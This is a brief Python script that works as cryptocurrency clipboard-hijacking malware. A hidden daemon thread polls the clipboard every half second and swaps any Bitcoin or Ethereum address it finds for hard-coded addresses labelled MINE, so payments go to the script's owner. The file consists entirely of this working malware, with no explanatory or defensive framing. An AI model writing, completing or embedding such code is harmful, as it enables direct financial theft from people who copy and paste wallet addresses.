import threading, time, re
import pyperclip
MINE = {"btc": "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "eth": "0x52908400098527886E0F7030069857D2E4169EE7"}
def watch():
    while True:
        text = pyperclip.paste()
        if re.fullmatch(r"[13][a-km-zA-HJ-NP-Z1-9]{25,34}", text) and text != MINE["btc"]:
            pyperclip.copy(MINE["btc"])
        elif re.fullmatch(r"0x[a-fA-F0-9]{40}", text):
            pyperclip.copy(MINE["eth"])
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()
